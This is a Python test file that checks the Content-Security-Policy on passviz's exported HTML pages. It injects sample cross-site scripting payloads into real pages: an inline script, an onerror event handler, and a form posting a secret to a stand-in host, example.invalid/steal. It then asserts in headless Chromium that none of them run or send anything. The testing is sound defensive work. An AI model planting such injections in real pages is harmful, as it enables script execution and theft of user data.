"""The pages passviz writes let only their own scripts run (``passviz.view.page_policy``).

The browser tests inject what an escaping bug could let through (an inline
script, an event handler, a form that posts off the page) into real pages
and check in headless Chromium that none of it runs or sends anything while
the page's own script still does.
"""

from __future__ import annotations

import html
import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest

from passviz.notebook import show_graph
from passviz.pipelines import record
from passviz.view.export import offline_html, to_pyvis
from passviz.view.page_policy import content_security_policy, inline_scripts, script_hash, with_policy
from passviz.widget.standalone import standalone_html
from tests.conftest import BROWSER
from tests.test_replay import CF_INPUT

HERE = Path(__file__).resolve().parent

INJECTED = (
    "<script>window.__pwned = 'inline script';</script>"
    "<img src=x onerror=\"window.__pwned = 'event handler'\">"
    '<form action="https://example.invalid/steal" method="post">'
    '<input name="ir" value="secret"><button id="pv-submit">send</button></form>'
)
"""What an escaping bug could put in a page: each would run or send without the policy."""


def _policy(page: str) -> dict[str, str]:
    found = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert len(found) == 1
    return dict(d.strip().split(" ", 1) for d in html.unescape(found[0]).split(";"))


def test_policy_hashes_exactly_the_scripts_that_run() -> None:
    page = (
        "<html><head><title>t</title></head><body>"
        '<script type="application/json" id="data">{"a": 1}</script>'
        '<script src="vendor.js"></script>'
        "<script>run(1)</script><SCRIPT type='text/javascript'>run(2)</SCRIPT >"
        "</body></html>"
    )
    assert inline_scripts(page) == ["run(1)", "run(2)"]
    strict = with_policy(page)
    assert strict.index("Content-Security-Policy") < strict.index("<title>")  # in force before anything
    policy = _policy(strict)
    assert set(policy["script-src"].split()) == {script_hash("run(1)"), script_hash("run(2)")}
    assert "unsafe-inline" not in policy["script-src"]
    assert policy["default-src"] == policy["form-action"] == policy["base-uri"] == "'none'"
    # The viewer's worker starts from a blob its own script makes; nothing else may start one.
    assert policy["worker-src"] == "blob:"
    # The digest is of the script's UTF-8 text, as the browser hashes it.
    assert script_hash("") == "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
    assert "script-src 'none'" in content_security_policy([])


def test_graph_pages_carry_the_policy() -> None:
    figure = show_graph(record(CF_INPUT, "canonicalize").trace, 0, "dataflow")
    page = offline_html(to_pyvis(figure.drawn.graph, figure.drawn.positions), None, figure.drawn.box)
    scripts = inline_scripts(page)
    assert scripts and set(_policy(page)["script-src"].split()) == {script_hash(s) for s in scripts}


def _load(page: str, ready: str, folder: Path, name: str) -> dict[str, Any]:
    path = folder / f"{name}.html"
    path.write_text(page, encoding="utf-8")
    command = ["node", str(BROWSER / "policy_page.mjs"), str(path), ready, str(folder / f"{name}.png")]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    result: dict[str, Any] = json.loads(done.stdout)
    return result


def _injected(page: str) -> str:
    return page.replace("</body>", INJECTED + "</body>", 1)


@pytest.mark.browser
def test_injected_content_never_runs_in_the_exported_page(artifacts: Path) -> None:
    page = standalone_html(record(CF_INPUT, "canonicalize").trace)
    result = _load(_injected(page), "#passviz-root .pv-step", artifacts, "policy-standalone")
    assert result["ready"], result  # the viewer's own bundle ran
    assert result["pwned"] is None and result["dialogs"] == []
    assert result["blocked"] == [] and not result["left_page"]  # the form was not sent
    assert result["refused"], "the policy refused the injected script, handler and form"


@pytest.mark.browser
def test_injected_content_never_runs_in_a_graph_frame(artifacts: Path) -> None:
    figure = show_graph(record(CF_INPUT, "canonicalize").trace, 0, "dataflow")
    page = offline_html(to_pyvis(figure.drawn.graph, figure.drawn.positions), None, figure.drawn.box)
    result = _load(_injected(page), "#mynetwork canvas", artifacts, "policy-graph")
    assert result["ready"], result  # vis-network, in line, ran
    assert result["pwned"] is None and result["dialogs"] == []
    assert result["blocked"] == [] and not result["left_page"]
    assert result["refused"]
